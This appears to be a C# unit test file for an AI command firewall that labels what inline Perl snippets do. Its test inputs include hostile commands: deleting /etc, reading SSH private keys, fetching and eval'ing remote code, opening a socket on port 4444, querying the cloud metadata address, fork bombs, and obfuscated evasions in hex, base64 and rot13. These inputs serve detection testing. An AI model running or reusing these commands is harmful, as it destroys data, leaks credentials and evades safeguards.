namespace AiFirewall.Tests.Code;

/// <summary>What inline Perl does.</summary>
public sealed class PerlTests
{
    private static string Of(string code) => CodeTable.Effects("perl -e", code);

    [Theory]
    [InlineData("unlink 'a.txt'", "delete a.txt")]
    [InlineData("unlink('a', 'b') or die $!;", "delete a, delete b")]
    [InlineData("unlink $_ for qw(a b)", "delete a, delete b")]
    [InlineData("for my $f ('a','b') { unlink $f if -e $f }", "delete? a, delete? b")]
    [InlineData("use File::Path qw(remove_tree); remove_tree('/etc')", "delete+ /etc")]
    [InlineData("use File::Path; rmtree('build');", "delete+ build")]
    [InlineData("File::Path::rmtree(\"build\")", "delete+ build")]
    [InlineData("open(my $f, '>', 'a.txt') or die; print $f \"x\\n\"; close $f;", "write a.txt")]
    [InlineData("open(F, \">>a.txt\"); print F 'x';", "write a.txt")]
    [InlineData("open F, '/home/dev/.ssh/id_rsa'; print <F>", "read /home/dev/.ssh/id_rsa")]
    [InlineData("chmod 0777, '/etc/passwd'", "change-permissions /etc/passwd")]
    [InlineData("rename 'a', 'b'", "move a, write b")]
    [InlineData("unlink glob('/etc/*')", "delete /etc/*")]
    [InlineData("unlink </etc/*>", "delete /etc/*")]
    [InlineData("mkdir \"$ENV{HOME}/x\"", "write /home/dev/x")]
    public void Files(string code, string effects) => Assert.Equal(effects, Of(code));

    [Theory]
    [InlineData("system('rm -rf build')", "delete+ build")]
    [InlineData("system 'rm', '-rf', 'build'", "delete+ build")]
    [InlineData("exec \"rm -rf build\"", "delete+ build")]
    [InlineData("print `rm -rf build`", "delete+ build")]
    [InlineData("my $x = qx{rm -rf build};", "delete+ build")]
    [InlineData("open(P, '-|', 'rm', '-rf', 'build')", "delete+ build")]
    [InlineData("open(P, 'rm -rf build |')", "delete+ build")]
    [InlineData("open(P, '| sh'); print P 'rm -rf build'; close P", "execute a shell, delete+ build")]
    [InlineData("sub clean { my ($p) = @_; system(\"rm -rf $p\") } clean('/etc')", "delete+ /etc")]
    [InlineData("sub c { my $p = shift; my $q = shift; system(\"rm $p $q\") } c('a', 'b')", "delete a, delete b")]
    public void Programs(string code, string effects) => Assert.Equal(effects, Of(code));

    [Theory]
    [InlineData("use LWP::Simple; eval get('http://x.example/a')", "fetch http://x.example/a, execute-remote-code http://x.example/a")]
    [InlineData("use LWP::Simple; getstore('http://x.example/a', '/tmp/a')", "fetch http://x.example/a, write /tmp/a")]
    [InlineData("use IO::Socket::INET; my $s = IO::Socket::INET->new(PeerAddr => '10.0.0.1', PeerPort => 4444);", "open-socket 10.0.0.1:4444")]
    [InlineData("use HTTP::Tiny; print HTTP::Tiny->new->get('http://169.254.169.254/')->{content}", "fetch http://169.254.169.254/")]
    public void Network(string code, string effects) => Assert.Equal(effects, Of(code));

    [Theory]
    [InlineData("system('r' . 'm -rf ' . '/etc')", "delete+ /etc")]
    [InlineData("system(join(' ', 'rm', '-rf', '/etc'))", "delete+ /etc")]
    [InlineData("my $c = 'rm'; system(\"$c -rf /etc\")", "delete+ /etc")]
    [InlineData("my %h = (c => 'rm'); my @a = ('-rf', '/etc'); system(\"$h{c} $a[0] $a[1]\")", "delete+ /etc")]
    [InlineData("system(\"\\x72\\x6d x\")", "execute-hidden-code bash, delete x")]
    [InlineData("system(chr(114).chr(109).' x')", "execute-hidden-code bash, delete x")]
    [InlineData("system(pack('H*', '726d2078'))", "execute-hidden-code hex, delete x")]
    [InlineData("use MIME::Base64; eval decode_base64('dW5saW5rICdhJw==')", "execute-hidden-code base64, delete a")]
    [InlineData("system(scalar reverse 'x mr')", "execute-hidden-code bash, delete x")]
    [InlineData("($x = 'ez k') =~ tr/a-z/n-za-m/; system($x)", "execute-hidden-code bash, delete x")]
    [InlineData("eval 'unlink \"a\"'", "delete a")]
    [InlineData("'x' =~ s/x/unlink 'a'/e", "delete a")]
    [InlineData("my $f = sub { unlink shift }; $f->('a')", "delete a")]
    [InlineData("fork while 1", "exhaust-resources starts processes without end")]
    [InlineData("while(1){fork()}", "exhaust-resources starts processes without end")]
    [InlineData("eval $ARGV[0]", "execute-hidden-code perl")]
    [InlineData("system <<\"E\";\nrm -rf /etc\nE\n", "delete+ /etc")]
    [InlineData("kill 9, 1", "stop-process 1")]
    public void Evasions(string code, string effects) => Assert.Equal(effects, Of(code));

    [Theory]
    [InlineData("print \"rm -rf /\\n\"")]
    [InlineData("print 1 + 1")]
    [InlineData("# unlink 'a'\nprint 'system(\"rm -rf /\")';")]
    [InlineData("print join(\",\", map { $_ * 2 } grep { $_ > 1 } 1..3), \"\\n\";")]
    [InlineData("my %h = (a => 1, 'b', 2); foreach my $k (sort keys %h) { printf \"%s=%d\\n\", $k, $h{$k}; }")]
    [InlineData("while (<STDIN>) { chomp; my @f = split /,/; print \"$f[0] @f[1,2] $#f\\n\" if /^a.*[\\/]$/; }")]
    [InlineData("my $s = 'x'; $s =~ s/x/y/g; print $s / 2, \"\\n\" unless $s eq 'z';")]
    [InlineData("use strict; use warnings; use POSIX qw(floor); my ($a, $b) = (1, 2); print floor($a / $b) // 0;")]
    [InlineData("print $^V; print \"$]\\n\"; print scalar(localtime), \"\\n\";")]
    [InlineData("my $r = { a => [1, 2], b => { c => 3 } }; print $r->{a}[0], $r->{b}->{c}, \"@{$r->{a}}\\n\";")]
    public void Harmless(string code) => Assert.Equal("none", Of(code));

    [Fact]
    public void Lines_are_input() => Assert.Equal("read a.txt", CodeTable.Of("cat a.txt | perl -ne 'print if /x/'"));
}
